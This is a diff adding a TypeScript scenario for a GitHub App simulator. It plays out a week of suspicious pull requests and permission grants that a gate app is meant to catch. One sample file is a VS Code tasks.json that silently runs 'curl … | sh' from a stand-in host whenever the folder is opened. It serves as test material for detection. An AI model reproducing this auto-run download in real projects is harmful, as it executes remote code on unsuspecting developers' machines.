@@ -1,0 +1,225 @@
+import type { Instant } from "../../../src/clock.ts";
+import { plusDays } from "../../../src/clock.ts";
+import { addRepository } from "../build/build.ts";
+import { installApp, registerApp } from "../build/build-app.ts";
+import { addedFile, changedLine, commitTo, openPullRequest, type PullRequestInput } from "../build/build-work.ts";
+import { installationWebhook } from "../payload/installation.ts";
+import { memberWebhook } from "../payload/member.ts";
+import { pullRequestWebhook } from "../payload/pull-request.ts";
+import type { Simulator } from "../server.ts";
+import type { PullRequest, Repository, User, World } from "../world/world.ts";
+import { createWorld } from "../world/world.ts";
+import type { App, Delivery, Installation } from "../world/world-apps.ts";
+import { buildCast, type Cast } from "./cast.ts";
+
+/** A week at the gate of one organisation, ready to be played. */
+export interface Gate {
+  readonly world: World;
+  readonly app: App;
+  readonly installation: Installation;
+  readonly cast: Cast;
+  readonly steps: readonly Step[];
+}
+
+/** One thing that happens. Steps are played in order, each once. */
+export interface Step {
+  readonly id: string;
+  readonly title: string;
+  /** What somebody on GitHub would see of it. */
+  readonly tells: string;
+  /** Changes the world and sends what GitHub would send. */
+  play(simulator: Simulator, now: Instant): Promise<Played>;
+}
+
+/** What a step left behind, for links and for tests. */
+export interface Played {
+  readonly repository: Repository | null;
+  readonly pullRequest: PullRequest | null;
+  readonly accountId: number | null;
+  /** Null when nothing was sent. */
+  readonly delivery: Delivery | null;
+}
+
+/** Builds the world and the App as GitHub knows it; the caller keeps the secrets and the private key. */
+export function createGate(
+  input: Omit<Parameters<typeof registerApp>[1], "owner" | "createdAt" | "slug"> & {
+    readonly now: Instant;
+    /** The organisation's policy, put into its `.github` repository. */
+    readonly policy?: string;
+  },
+): Gate {
+  const { now, policy, ...credentials } = input;
+  const world = createWorld();
+  const cast = buildCast(world, now);
+  const { organization, owner } = cast;
+  const app = registerApp(world, {
+    slug: "sallyport-demo",
+    owner: organization,
+    createdAt: plusDays(now, -1),
+    ...credentials,
+  });
+  const installation = installApp(world, app, { account: organization, at: plusDays(now, -1) });
+  installation.singleFilePaths = [".github/sallyport.yml"];
+  if (policy !== undefined) {
+    const files = { ".github/sallyport.yml": policy };
+    const settings = addRepository(world, {
+      owner: organization,
+      name: ".github",
+      createdAt: plusDays(now, -2000),
+      files,
+    });
+    commitTo(world, settings, { by: owner, at: plusDays(now, -1), message: "Add the policy" });
+  }
+  return { world, app, installation, cast, steps: stepsOf(cast, installation, now) };
+}
+
+const stepsOf = (cast: Cast, installation: Installation, now: Instant): readonly Step[] => [
+  {
+    id: "install",
+    title: "The owner installs the App",
+    tells: "octo-org gives Sallyport its three repositories.",
+    async play(simulator) {
+      const webhook = installationWebhook(simulator.stage, { installation, action: "created", sender: cast.owner });
+      return { ...NOTHING, delivery: await simulator.deliver(webhook) };
+    },
+  },
+  contribution(cast.docs, {
+    id: "newcomer",
+    title: "A newcomer mends the guide",
+    tells: "Somebody nobody here knows corrects one sentence of the documentation.",
+    input: {
+      author: cast.newcomer,
+      title: "Correct the first step of the guide",
+      files: [changedLine("guide/start.md", { line: 1, from: "# Start", to: ["# Getting started"] })],
+    },
+  }),
+  contribution(cast.wallet, {
+    id: "veteran",
+    title: "A contributor of many years adds a check",
+    tells: "Nine merged pull requests here, signing keys from eight years ago, an ordinary change.",
+    input: {
+      author: cast.veteran,
+      title: "Refuse an empty message before signing",
+      files: [addedFile("src/refuse-empty.ts", EMPTY_CHECK)],
+    },
+  }),
+  contribution(cast.relayer, {
+    id: "editor-task",
+    title: "A trusted account brings an editor task along",
+    tells: "A good fix from an honest old account, and a file that runs a download when the folder is opened.",
+    input: {
+      author: cast.carrier,
+      title: "Retry when the node is busy",
+      files: [addedFile("src/retry.ts", RETRY), addedFile(".vscode/tasks.json", EDITOR_TASK)],
+    },
+  }),
+  contribution(cast.relayer, {
+    id: "returned",
+    title: "An account comes back after almost six years",
+    tells:
+      "New keys, no repository from before, pull requests to forty-four owners within a week, and now one here, made " +
+      "of commits that carry another account and impossible dates.",
+    input: {
+      author: cast.returned,
+      title: "Improve error handling of the queue",
+      files: [addedFile("src/queue-errors.ts", QUEUE_ERRORS)],
+      commits: borrowedCommits(cast, now),
+    },
+  }),
+  grant(cast.young, cast, {
+    id: "thin-grant",
+    title: "A young account gets write",
+    tells: "One merged pull request, seven weeks on GitHub, and from today it can push to the relayer.",
+  }),
+  grant(cast.returned, cast, {
+    id: "returned-grant",
+    title: "The account that came back gets write as well",
+    tells: "A busy maintainer lets it merge its own work. What the gate saw and the open door now meet.",
+  }),
+  {
+    id: "audit",
+    title: "The week ends: who can write?",
+    tells: "Teams, direct grants, a machine account, an outside account that has not been seen for three years.",
+    play: async () => ({ ...NOTHING, repository: null }),
+  },
+];
+
+const NOTHING: Played = { repository: null, pullRequest: null, accountId: null, delivery: null };
+
+/** A pull request from the author's fork. */
+function contribution(
+  repository: Repository,
+  step: Pick<Step, "id" | "title" | "tells"> & { readonly input: Omit<PullRequestInput, "at" | "from"> },
+): Step {
+  const { input, ...words } = step;
+  return {
+    ...words,
+    async play(simulator, now) {
+      const { world, stage } = simulator;
+      const { author } = input;
+      const fork = addRepository(world, {
+        owner: author,
+        name: repository.name,
+        createdAt: plusDays(now, -1),
+        parent: repository,
+      });
+      fork.commits.push(...repository.commits);
+      const pullRequest = openPullRequest(world, repository, { ...input, at: now, from: fork });
+      const webhook = pullRequestWebhook(stage, { pullRequest, action: "opened", sender: author });
+      return { repository, pullRequest, accountId: author.id, delivery: await simulator.deliver(webhook) };
+    },
+  };
+}
+
+/** A maintainer gives somebody from outside write on the relayer. */
+function grant(
+  member: User,
+  { relayer, secondMaintainer: sender }: Cast,
+  words: Pick<Step, "id" | "title" | "tells">,
+): Step {
+  return {
+    ...words,
+    async play(simulator) {
+      relayer.direct.set(member.id, "write");
+      const about = { repository: relayer, member, sender, action: "added", to: "write" } as const;
+      const delivery = await simulator.deliver(memberWebhook(simulator.stage, about));
+      return { repository: relayer, pullRequest: null, accountId: member.id, delivery };
+    },
+  };
+}
+
+/** Work under the young account's address, each commit written days after it was committed. */
+function borrowedCommits({ young }: Cast, now: Instant): NonNullable<PullRequestInput["commits"]> {
+  return Array.from({ length: 12 }, (_, index) => ({
+    by: young,
+    at: plusDays(now, -9 + index / 24),
+    authoredAt: plusDays(now, -5 + index / 24),
+    message: `Handle case ${index + 1} of the queue`,
+  }));
+}
+
+const EMPTY_CHECK = `export function refuseEmpty(message: string): void {
+  if (message.length === 0) throw new Error("nothing to sign");
+}
+`;
+
+const RETRY = `export const busy = (status: number): boolean => status === 429 || status === 503;
+`;
+
+const QUEUE_ERRORS = `export class QueueError extends Error {}
+`;
+
+/** The host is reserved for documentation; nothing answers there. */
+const EDITOR_TASK = `{
+  "version": "2.0.0",
+  "tasks": [
+    {
+      "label": "prepare",
+      "type": "shell",
+      "command": "curl -fsSL https://cdn.invalid/prepare | sh",
+      "runOptions": { "runOn": "folderOpen" },
+      "presentation": { "reveal": "never" }
+    }
+  ]
+}
+`;
